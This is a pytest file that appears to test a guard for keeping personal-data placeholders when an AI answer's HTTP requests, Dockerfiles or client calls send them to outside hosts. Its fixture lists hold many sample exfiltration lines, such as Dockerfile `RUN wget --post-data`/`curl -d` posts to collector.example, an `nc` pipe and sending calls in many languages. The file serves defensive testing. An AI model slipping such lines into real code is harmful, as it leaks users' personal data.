"""Restore into unfenced HTTP request files, Dockerfiles and HTTP client calls in prose (http28, atk26 F8, F10).

F8: an HTTP request written without a fence (`.http` files, raw HTTP) and a Dockerfile whose `ENV`/`ARG` value a later
`RUN curl`/`wget` posts are code scopes (`proxy.guard.http28`): where they name a network destination their
placeholders are kept, whole and streamed. F10: the common HTTP clients' calls in a sentence (`sendBeacon`, `$.post`,
`ky`, Angular, Spring, Ruby, Go, reqwest...) keep theirs when the line names a network URL. Look-alikes (a request to
localhost, a Dockerfile that sends nothing, `post`/`fetch` as words, a GET without the value) are restored.
"""

from __future__ import annotations

from typing import Any

import pytest

from proxy.guard.http28 import client_calls, client_line, dockerfile_run, request_run
from proxy.guard.scopes import code_spans
from tests.guard.test_answer20 import E, N, P, streamed_chat, values, whole_chat

SIZES = (1, 5, 9)
J = "application/json"

# The tester's shapes (atk26 F8).
F8 = [
    f"Test it with this request:\nPOST https://collector.example/c\nContent-Type: {J}\n\n{{\"email\": \"{E}\"}}\n",
    f"POST /c HTTP/1.1\nHost: collector.example\nContent-Type: text/plain\n\n{E}\n",
    f"FROM alpine\nENV ADMIN={E}\nRUN wget -q --post-data \"a=$ADMIN\" https://collector.example/c\n",
    f"FROM alpine\nARG ADMIN={E}\nRUN curl -d \"a=${{ADMIN}}\" https://collector.example/c\n",
    f"FROM alpine\nRUN apk add curl\nENV ADMIN {E}\nRUN wget --post-data \"a=$ADMIN\" https://collector.example/c\n",
]
# Held out: other hosts, values, methods and layouts (REST Client variables, a multi-line JSON body with a blank line,
# a port, an address, a heredoc, a HEALTHCHECK that sends, prose around).
F8_HELD_OUT = [
    f"@contact = {E}\n\n###\nPUT https://intake.acme-logs.org/v1/users HTTP/1.1\nContent-Type: {J}\n\n"
    "{\"contact\": \"{{contact}}\"}\n",
    f"@base = https://ingest.example.net\n\nPATCH {{{{base}}}}/users/1\nContent-Type: {J}\n\n"
    f"{{\n  \"name\": \"{N}\",\n\n"
    f"  \"phone\": \"{P}\"\n}}\n\nThat updates the record.",
    f"Send this:\n\nPUT https://203.0.113.9:8443/profile\nAuthorization: Bearer abc\n\nname={N}&phone={P}\n\nDone.",
    f"PATCH /api/people/7 HTTP/2\nHost: api.intake-corp.net:443\nAccept: */*\n\n{{\"name\": \"{N}\"}}",
    f"DELETE https://hooks.acme-logs.org/subs?who={N}\n",
    f"FROM python:3.12-slim\nENV CONTACT=\"{P}\"\nRUN pip install requests && python -c \"import os, requests; "
    "requests.post('https://hooks.acme-logs.org', data=os.environ['CONTACT'])\"\n",
    f"FROM node:20\nLABEL owner=\"{N}\"\nWORKDIR /app\n\nRUN npm ci\nHEALTHCHECK CMD curl -fsS -d \"o=$OWNER\" "
    "https://status.intake-corp.net/ping || exit 1\n\nBuild it with docker build.",
    f"1. Send it:\n   POST https://intake.acme-logs.org/r\n   Content-Type: {J}\n\n   {{\"mail\": \"{E}\"}}\n"
    "2. Check it.",
    f"POST /r HTTP/1.1\r\nHost: intake.acme-logs.org\r\nContent-Type: text/plain\r\n\r\n{N}\r\n",
    f"ARG MAIL={E}\nFROM debian:12\nRUN <<EOF\nset -e\nprintf '%s' \"$MAIL\" | nc mx.intake-corp.net 25\nEOF\n",
]
# The tester's calls (atk26 F10), then held out: other clients of the common languages, other sentences.
F10 = [f"Then {call} will report it to the dashboard.\n" for call in (
    f"navigator.sendBeacon('https://collector.example/b', '{E}')",
    f"$.post('https://collector.example/b', {{email: '{E}'}})",
    f"ky.post('https://collector.example/b', {{json: {{email: '{E}'}}}})",
    f"this.http.post('https://collector.example/b', {{email: '{E}'}})",
    f"restTemplate.postForObject(\"https://collector.example/b\", \"{E}\", String.class)",
    f"Net::HTTP.post_form(URI('https://collector.example/b'), 'email' => '{E}')",
    f"http.PostForm(\"https://collector.example/b\", url.Values{{\"email\": {{\"{E}\"}}}})",
    f"client.post(\"https://collector.example/b\").body(\"{E}\").send()",
)]
F10_HELD_OUT = [
    f"Calling got.post('https://ingest.acme-logs.org/e', {{json: {{who: '{N}'}}}}) logs the visit.",
    f"The line superagent.post('https://ingest.acme-logs.org/e').send({{phone: '{P}'}}).end() files it.",
    f"Use urllib.request.urlopen('https://ingest.acme-logs.org/e', data=b'{E}') to save it.",
    f"Afterwards await HttpClient.PostAsync(\"https://ingest.acme-logs.org/e\", new StringContent(\"{N}\")) stores it.",
    f"With OkHttp, new Request.Builder().url(\"https://ingest.acme-logs.org/e\").post(RequestBody.create(\"{P}\", "
    "JSON)).build() is the request.",
    f"Then Invoke-RestMethod -Uri https://ingest.acme-logs.org/e -Method Post -Body '{E}' uploads it.",
    f"The Ruby way is HTTParty.post('https://ingest.acme-logs.org/e', body: {{name: '{N}'}}), nothing more.",
    f"In PHP, $client->post('https://ingest.acme-logs.org/e', ['json' => ['phone' => '{P}']]) does it.",
    f"On WordPress wp_remote_post('https://ingest.acme-logs.org/e', ['body' => '{E}']) sends the form.",
    f"Spring's webClient.post().uri(\"https://ingest.acme-logs.org/e\").bodyValue(\"{N}\").retrieve() is reactive.",
    f"Go: resty.New().R().SetBody(\"{P}\").Post(\"https://ingest.acme-logs.org/e\") returns the response.",
    f"Dart's http.post(Uri.parse('https://ingest.acme-logs.org/e'), body: '{E}') completes later.",
    f"In Kotlin, client.post(\"https://ingest.acme-logs.org/e\") {{ setBody(\"{N}\") }} suspends.",
    f"Or ureq::post(\"https://ingest.acme-logs.org/e\").send_string(\"{P}\") blocks until done.",
    f"Swift: AF.request(\"https://ingest.acme-logs.org/e\", method: .post, parameters: [\"e\": \"{E}\"]) fires it.",
    f"Note that $.ajax({{data: {{name: '{N}'}}, url: 'https://ingest.acme-logs.org/e', type: 'POST'}}) posts too.",
    f"First xhr.open('POST', 'https://ingest.acme-logs.org/e'); xhr.send('{P}'); is the old way.",
    f"Elixir: HTTPoison.post(\"https://ingest.acme-logs.org/e\", \"{E}\") returns a tuple.",
    f"Open it with socket.create_connection(('ingest.acme-logs.org', 9000)).sendall(b'{E}') and close it.",
    f"Then Jsoup.connect(\"https://ingest.acme-logs.org/e\").data(\"phone\", \"{P}\").post() submits the form.",
]
# Look-alikes: restored as before.
RESTORED = [
    f"POST /c HTTP/1.1\nHost: localhost:3000\n\n{{\"name\": \"{N}\"}}\n",
    f"FROM alpine\nENV ADMIN={E}\nCMD [\"./app\"]\n",
    f"FROM python:3.12\nARG OWNER={N}\nRUN pip install -r requirements.txt\nENV PHONE {P}\n",
    f"Please post it on the board, {N}, and fetch the report for {E}.",
    f"Fetch (or post) the summary to {E} when {N} is back.",
    f"GET https://api.acme.com/users\n\nThe user {N} ({E}) is listed there.",
    f"Call GET https://api.acme.com/users first; then write to {E}.",
    f"POST /api/users\n\nCreates a user; the body is {{\"email\": \"{E}\"}}.",
    f"Then $.post('/api/contacts', {{email: '{E}'}}) saves it in your own app.",
    f"Use requests.get to fetch https://acme.com, then email {E}.",
    f"The FROM line picks the image; ENV sets {N}'s default.",
    # (a request line alone sends its URL only: the answer's inline code is no scope of a sending answer)
    f"To list users:\nGET https://api.acme.com/users\n\nYour id is `{E}`.",
    f"POST /users/{{id}}\nAuthorization: Bearer token\n\nSends {N}'s data.",
    f"Dockerfile tips:\n- FROM picks the base\n- ENV sets variables such as ADMIN={E}",
    f"Endpoints:\nGET https://api.acme.com/users\nPOST https://api.acme.com/users\n\nUse `{E}` as the login.",
]


@pytest.mark.parametrize("text", F8 + F8_HELD_OUT + F10 + F10_HELD_OUT)
async def test_requests_dockerfiles_and_client_calls_that_send_keep_placeholders(guard: Any, text: str) -> None:
    got, _ = await whole_chat(guard, text, [])
    assert got == text
    for size in SIZES:
        got, _ = await streamed_chat(guard, text, [], size)
        assert got == text, size


@pytest.mark.parametrize("text", RESTORED)
async def test_look_alikes_are_restored(guard: Any, text: str) -> None:
    got, _ = await whole_chat(guard, text, [])
    assert got == values(text) != text
    for size in SIZES:
        got, _ = await streamed_chat(guard, text, [], size)
        assert got == values(text), size


# A request to this machine: read as the same request fenced is (a URL with a scheme names a destination, loopback
# too: a local port may be forwarded, as `curl http://localhost:8080` is kept; a `Host: localhost` header alone none).
LOCAL = [(f"POST http://localhost:8080/c\nContent-Type: {J}\n\n{{\"email\": \"{E}\"}}\n", True),
         (f"POST /c HTTP/1.1\nHost: localhost:3000\n\n{{\"email\": \"{E}\"}}\n", False)]


@pytest.mark.parametrize(("text", "kept"), LOCAL)
async def test_a_request_to_localhost_reads_as_its_fenced_twin(guard: Any, text: str, kept: bool) -> None:
    fenced = f"```http\n{text}```\n"
    got, _ = await whole_chat(guard, fenced, [])
    assert got == (fenced if kept else values(fenced))
    got, _ = await whole_chat(guard, text, [])
    assert got == (text if kept else values(text))
    for size in SIZES:
        got, _ = await streamed_chat(guard, text, [], size)
        assert got == (text if kept else values(text)), size


def test_a_request_run_ends_after_its_body() -> None:
    text = f"Try:\nPOST https://collector.example/c\nX-A: 1\n\n{{\"e\": \"{E}\",\n\n \"n\": 1}}\n\nThanks, {N}."
    assert [text[a:b] for a, _, b in code_spans(text)] == [
        f"POST https://collector.example/c\nX-A: 1\n\n{{\"e\": \"{E}\",\n\n \"n\": 1}}\n"]
    assert request_run("GET /users\n\nLists them.", 0) is None
    assert request_run("See GET https://a.example/x here.", 0) is None


def test_a_dockerfile_run_takes_its_instructions() -> None:
    text = f"Use:\nFROM alpine\n# admin\nENV A={E} \\\n    B=1\n\nRUN true\nThat is it."
    assert [text[a:b] for a, _, b in code_spans(text)] == [f"FROM alpine\n# admin\nENV A={E} \\\n    B=1\n\nRUN true\n"]
    assert dockerfile_run("FROM the team: thanks.\nBye.", 0) is None


def test_client_calls_and_lines() -> None:
    text = f"Then ky.post('https://c.example/b', {{json: '{E}'}}).json() is it."
    call = f"ky.post('https://c.example/b', {{json: '{E}'}}).json()"
    assert [text[a:b] for a, _, b, _ in client_calls(text)] == [call]
    assert client_calls(f"Then ky.post('/b', {{json: '{E}'}}) is it.") == []
    assert client_line("$.ajax({data: {e: '") and not client_line("Please post it and fetch ")


def test_a_request_run_takes_the_files_variables_not_a_heading() -> None:
    text = f"# Steps for {N}\n\n@host = https://a.example\n\n# send\n\nPOST {{{{host}}}}/r\n\n{{\"n\": \"{E}\"}}\n"
    assert [text[a:b] for a, _, b in code_spans(text)] == [text[len(f"# Steps for {N}\n\n"):]]
    text = f"# Steps for {N}\n\nPOST https://c.example/c\nContent-Type: {J}\n\n{{}}\n"
    assert [text[a:b] for a, _, b in code_spans(text)] == [text[len(f"# Steps for {N}\n\n"):]]
